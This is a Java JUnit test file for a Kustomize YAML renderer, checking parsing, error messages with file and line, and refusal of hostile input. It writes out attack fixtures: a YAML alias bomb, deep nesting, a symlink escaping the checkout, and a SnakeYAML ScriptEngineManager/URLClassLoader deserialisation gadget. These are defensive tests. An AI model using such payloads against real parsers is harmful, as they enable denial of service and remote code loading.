package dev.drawbridge.render;

import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

/** Plain directories of YAML, and YAML that is malformed or hostile. */
class YamlParsingTest {

    @TempDir
    Path root;

    private final KustomizeRenderer renderer = new KustomizeRenderer();

    private List<ObjectNode> render(String path) throws RenderException {
        return renderer.render(Trees.checkout(root), path);
    }

    private RenderException fails(String path) {
        RenderException e = catchThrowableOfType(RenderException.class, () -> render(path));
        assertThat(e).as("a RenderException").isNotNull();
        return e;
    }

    @Test
    void rendersPlainDirectoryFilesSortedAndNotItsSubdirectories() throws Exception {
        Trees.write(root, "plain/b.yml", Trees.deployment("b", "shop", "nginx"));
        Trees.write(root, "plain/a.yaml", "---\n" + Trees.deployment("a", "shop", "nginx") + "---\n---\n");
        Trees.write(root, "plain/notes.txt", "not yaml: [");
        Trees.write(root, "plain/nested/c.yaml", Trees.deployment("c", "shop", "nginx"));

        assertThat(render("plain")).extracting(o -> o.at("/metadata/name").asText()).containsExactly("a", "b");
    }

    @Test
    void flattensListDocuments() throws Exception {
        Trees.write(root, "plain/list.yaml", """
                apiVersion: v1
                kind: List
                items:
                  - {apiVersion: v1, kind: ConfigMap, metadata: {name: one}}
                  - {apiVersion: v1, kind: ConfigMap, metadata: {name: two}}
                """);
        assertThat(render("plain")).extracting(o -> o.at("/metadata/name").asText()).containsExactly("one", "two");
    }

    @Test
    void resolvesAnchorsAndMergeKeysInsteadOfReadingAliasNames() throws Exception {
        Trees.write(root, "plain/cm.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata:
                  name: cm
                  labels: &labels {team: shop, tier: web}
                  annotations:
                    <<: *labels
                    extra: "yes"
                data:
                  copy: &v hello
                  again: *v
                  enabled: "true"
                  when: 2026-01-31
                """);
        ObjectNode cm = render("plain").get(0);
        assertThat(cm.at("/metadata/annotations/team").asText()).isEqualTo("shop");
        assertThat(cm.at("/metadata/annotations/extra").asText()).isEqualTo("yes");
        assertThat(cm.at("/data/again").asText()).isEqualTo("hello");
        assertThat(cm.at("/data/when").asText()).isEqualTo("2026-01-31");
    }

    @Test
    void reportsMalformedYamlWithFileAndLine() {
        Trees.write(root, "plain/ok.yaml", Trees.deployment("a", "shop", "nginx"));
        Trees.write(root, "plain/z-bad.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata:
                  name: bad
                data:
                  key: [unclosed, flow
                  other: 1
                """);
        RenderException e = fails("plain");
        assertThat(e.file()).isEqualTo("plain/z-bad.yaml");
        assertThat(e.line()).isEqualTo(7);
        assertThat(e.getMessage()).startsWith("plain/z-bad.yaml:7: ").doesNotContain("\n");
    }

    @Test
    void refusesDuplicateKeysWithTheirLine() {
        Trees.write(root, "plain/dup.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata:
                  name: dup
                  name: other
                """);
        RenderException e = fails("plain");
        assertThat(e.getMessage()).startsWith("plain/dup.yaml:5: ").contains("duplicate key name");
    }

    @Test
    @Timeout(60) // expanded, the bomb would never finish
    void refusesAYamlBombBeforeExpandingIt() {
        Trees.write(root, "plain/bomb.yaml", """
                apiVersion: v1
                kind: ConfigMap
                metadata: {name: lol}
                data:
                  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                  b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                  c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                  d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                  e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                  f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                  g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                  h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                  i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                """);
        RenderException e = fails("plain");
        assertThat(e.file()).isEqualTo("plain/bomb.yaml");
        assertThat(e.getMessage()).contains("aliases");
    }

    @Test
    @Timeout(60)
    void refusesAFewAliasesThatExpandIntoMillionsOfNodes() {
        StringBuilder yaml = new StringBuilder("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: wide}\ndata:\n  l0: &l0 [x, x]\n");
        for (int i = 1; i <= 24; i++) {
            yaml.append("  l").append(i).append(": &l").append(i).append(" [*l").append(i - 1).append(", *l").append(i - 1).append("]\n");
        }
        Trees.write(root, "plain/wide.yaml", yaml.toString());
        RenderException e = fails("plain");
        assertThat(e.getMessage()).startsWith("plain/wide.yaml:1: document 1 expands to more than");
    }

    @Test
    void refusesDeeplyNestedYaml() {
        Trees.write(root, "plain/deep.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: deep}\ndata: "
                + "[".repeat(5000) + "]".repeat(5000) + "\n");
        assertThat(fails("plain").file()).isEqualTo("plain/deep.yaml");
    }

    @Test
    void refusesLanguageSpecificTags() {
        Trees.write(root, "plain/tag.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: t}\n"
                + "data: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        RenderException e = fails("plain");
        assertThat(e.getMessage()).startsWith("plain/tag.yaml:4: ");
    }

    @Test
    void refusesADocumentThatIsNotAMapping() {
        Trees.write(root, "plain/a.yaml", Trees.deployment("a", "shop", "nginx") + "---\n- just\n- a list\n");
        assertThat(fails("plain").getMessage())
                .isEqualTo("plain/a.yaml:15: document 2 is not a mapping (Kubernetes object) but a sequence");
    }

    @Test
    void refusesADocumentWithoutKind() {
        Trees.write(root, "plain/a.yaml", "apiVersion: v1\nmetadata: {name: x}\n");
        assertThat(fails("plain").getMessage()).isEqualTo("plain/a.yaml:1: document 1 has no kind");
    }

    @Test
    void refusesADocumentWithoutName() {
        Trees.write(root, "plain/a.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {generateName: x-}\n");
        assertThat(fails("plain").getMessage()).isEqualTo("plain/a.yaml:1: document 1 (ConfigMap) has no metadata.name");
    }

    @Test
    void refusesMoreDocumentsThanTheLimit() {
        KustomizeRenderer small = new KustomizeRenderer(RenderSettings.defaults().withMaxDocuments(2));
        Trees.write(root, "plain/a.yaml", Trees.deployment("a", "s", "n") + "---\n" + Trees.deployment("b", "s", "n")
                + "---\n" + Trees.deployment("c", "s", "n"));
        assertThatThrownBy(() -> small.render(Trees.checkout(root), "plain"))
                .isInstanceOf(RenderException.class).hasMessageContaining("more than 2 objects");
    }

    @Test
    void refusesAPlainFileSymlinkedFromOutsideTheCheckout(@TempDir Path outside) throws Exception {
        Path secret = Files.writeString(outside.resolve("s.yaml"), "apiVersion: v1\nkind: Secret\nmetadata: {name: s}\n");
        Files.createDirectories(root.resolve("plain"));
        Files.createSymbolicLink(root.resolve("plain/s.yaml"), secret);
        assertThat(fails("plain").getMessage()).isEqualTo("plain/s.yaml: symlink leaves the checkout");
    }

    @Test
    void rendersAnEmptyDirectoryAsNoObjects() throws Exception {
        Files.createDirectories(root.resolve("empty"));
        assertThat(render("empty")).isEmpty();
    }
}
